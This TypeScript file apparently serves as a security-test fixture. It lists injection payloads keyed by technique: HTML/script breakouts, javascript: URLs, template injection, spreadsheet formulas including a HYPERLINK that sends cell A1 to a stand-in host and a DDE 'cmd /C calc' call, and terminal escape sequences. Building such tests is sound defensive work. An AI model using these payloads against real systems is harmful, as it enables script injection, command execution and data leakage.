/**
 * What somebody may put into a cell so that a page, a sheet, a terminal or a program takes it for more than text. Those of
 * pages set a flag of their own where they run; addresses that a page should load end with a letter of their own.
 */
export const payloads = {
  element: '<img src=x onerror="top.zqtaken=1;window.zqtaken=1">',
  'end of an attribute': '"\'><svg/onload="window.zqtaken=2" onmouseover=\'window.zqtaken=2\'>',
  'end of a script': '</script></title></style><script>window.zqtaken=3</script>',
  comment: '<!--<script>window.zqtaken=4',
  address: 'javascript:window.zqtaken=5//<a href="javascript:window.zqtaken=5">',
  entities: '&lt;img src=x onerror=window.zqtaken=6&gt;&#x3c;b&#62;',
  style: '</style><style>*{background:url(https://zqtaken.example/y)}</style>{}*/@import "//zqtaken.example"',
  link: '=HYPERLINK("https://zqtaken.example/z?"&A1,"ok")',
  program: "+cmd|' /C calc'!A0",
  formula: '@SUM(1+1)*cmd',
  'before a formula': '\t=1+1\r\n-2+3',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the tricks.
  template: '${window.zqtaken=7}`{{constructor.constructor("window.zqtaken=7")()}}<?= window.zqtaken=7 ?>\u2028\'=1',
  'other direction':
    '\u202e\u200b\u2066=1+1\u0000\u001b[31m\u009b2J\u001b]0;zqtaken\u0007</text></svg><svg onload=window.zqtaken=8>',
} as const;

export type PayloadId = keyof typeof payloads;
export const payloadIds = Object.keys(payloads) as PayloadId[];
